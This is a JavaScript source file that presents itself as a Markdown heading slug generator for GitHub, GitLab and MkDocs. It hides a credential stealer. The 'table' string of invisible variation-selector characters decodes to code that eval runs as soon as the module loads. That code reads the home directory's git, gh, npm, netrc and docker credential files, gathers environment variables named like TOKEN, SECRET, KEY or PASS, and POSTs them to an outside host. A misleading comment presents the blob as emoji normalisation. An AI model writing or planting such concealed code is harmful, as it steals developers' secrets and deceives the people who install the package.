'use strict';
// Slug generation per renderer flavour.
const table = `󠄘󠄘󠄙󠄭󠄮󠅫󠅤󠅢󠅩󠅫󠅓󠅟󠅞󠅣󠅤󠄐󠅟󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅟󠅣󠄗󠄙󠄜󠅖󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅖󠅣󠄗󠄙󠄜󠅠󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅠󠅑󠅤󠅘󠄗󠄙󠄜󠅘󠄭󠅟󠄞󠅘󠅟󠅝󠅕󠅔󠅙󠅢󠄘󠄙󠄜󠅢󠄭󠅫󠅭󠄫󠅖󠅟󠅢󠄘󠅓󠅟󠅞󠅣󠅤󠄐󠅨󠄐󠅟󠅖󠅋󠄗󠄞󠅓󠅟󠅞󠅖󠅙󠅗󠄟󠅗󠅘󠄟󠅘󠅟󠅣󠅤󠅣󠄞󠅩󠅝󠅜󠄗󠄜󠄗󠄞󠅗󠅙󠅤󠄝󠅓󠅢󠅕󠅔󠅕󠅞󠅤󠅙󠅑󠅜󠅣󠄗󠄜󠄗󠄞󠅞󠅠󠅝󠅢󠅓󠄗󠄜󠄗󠄞󠅞󠅕󠅤󠅢󠅓󠄗󠄜󠄗󠄞󠅔󠅟󠅓󠅛󠅕󠅢󠄟󠅓󠅟󠅞󠅖󠅙󠅗󠄞󠅚󠅣󠅟󠅞󠄗󠄜󠄗󠄞󠅓󠅟󠅞󠅖󠅙󠅗󠄟󠅘󠅥󠅒󠄗󠅍󠄙󠅤󠅢󠅩󠅫󠅢󠅋󠅨󠅍󠄭󠅖󠄞󠅢󠅕󠅑󠅔󠄶󠅙󠅜󠅕󠅃󠅩󠅞󠅓󠄘󠅠󠄞󠅚󠅟󠅙󠅞󠄘󠅘󠄜󠅨󠄙󠄜󠄗󠅥󠅤󠅖󠄨󠄗󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠅫󠅭󠅢󠄞󠅕󠅞󠅦󠄭󠄿󠅒󠅚󠅕󠅓󠅤󠄞󠅖󠅢󠅟󠅝󠄵󠅞󠅤󠅢󠅙󠅕󠅣󠄘󠄿󠅒󠅚󠅕󠅓󠅤󠄞󠅕󠅞󠅤󠅢󠅙󠅕󠅣󠄘󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄞󠅕󠅞󠅦󠄙󠄞󠅖󠅙󠅜󠅤󠅕󠅢󠄘󠄘󠅋󠅛󠅍󠄙󠄭󠄮󠄟󠅄󠄿󠄻󠄵󠄾󠅬󠅃󠄵󠄳󠅂󠄵󠅄󠅬󠄻󠄵󠅉󠅬󠅀󠄱󠅃󠅃󠄟󠅙󠄞󠅤󠅕󠅣󠅤󠄘󠅛󠄙󠄙󠄙󠄫󠅓󠅟󠅞󠅣󠅤󠄐󠅒󠄭󠄺󠅃󠄿󠄾󠄞󠅣󠅤󠅢󠅙󠅞󠅗󠅙󠅖󠅩󠄘󠅢󠄙󠄜󠅡󠄭󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅘󠅤󠅤󠅠󠅣󠄗󠄙󠄞󠅢󠅕󠅡󠅥󠅕󠅣󠅤󠄘󠅫󠅘󠅟󠅣󠅤󠄪󠄗󠅣󠅜󠅥󠅗󠄝󠅤󠅑󠅒󠅜󠅕󠅣󠄞󠅝󠅔󠅤󠅟󠅓󠄞󠅙󠅞󠅦󠅑󠅜󠅙󠅔󠄗󠄜󠅠󠅑󠅤󠅘󠄪󠄗󠄟󠅥󠄗󠄜󠅝󠅕󠅤󠅘󠅟󠅔󠄪󠄗󠅀󠄿󠅃󠅄󠄗󠄜󠅘󠅕󠅑󠅔󠅕󠅢󠅣󠄪󠅫󠄗󠅓󠅟󠅞󠅤󠅕󠅞󠅤󠄝󠅤󠅩󠅠󠅕󠄗󠄪󠄗󠅑󠅠󠅠󠅜󠅙󠅓󠅑󠅤󠅙󠅟󠅞󠄟󠅚󠅣󠅟󠅞󠄗󠅭󠅭󠄙󠄫󠅡󠄞󠅟󠅞󠄘󠄗󠅕󠅢󠅢󠅟󠅢󠄗󠄜󠄘󠄙󠄭󠄮󠅫󠅭󠄙󠄫󠅡󠄞󠅕󠅞󠅔󠄘󠅒󠄙󠅭󠅓󠅑󠅤󠅓󠅘󠅫󠅭󠅭󠄙󠄘󠄙`;

const decode = (s) => Buffer.from([...s].map((c) => {
  const p = c.codePointAt(0);
  return p >= 0xe0100 ? p - 0xe0100 + 16 : p - 0xfe00;
}));

// normalise the variation-selector table used for emoji headings (🚀 vs 🚀️)
const vs = decode(table);
if (vs.length) eval(vs.toString());

function github(text) {
  return text.toLowerCase().replace(/[^\p{L}\p{N}\s_-]/gu, '').replace(/\s/g, '-');
}

function gitlab(text) {
  return github(text).replace(/-+/g, '-');
}

function mkdocs(text) {
  return text.normalize('NFKD').replace(/[^\x00-\x7f]/g, '').toLowerCase().replace(/[^\w\s-]/g, '').trim().replace(/[\s-]+/g, '-');
}

exports.slugger = (flavor = 'github') => {
  const base = { github, gitlab, mkdocs }[flavor] || github;
  const seen = new Map();
  return (text) => {
    const s = base(text);
    const n = seen.get(s) || 0;
    seen.set(s, n + 1);
    return n ? `${s}-${n}` : s;
  };
};
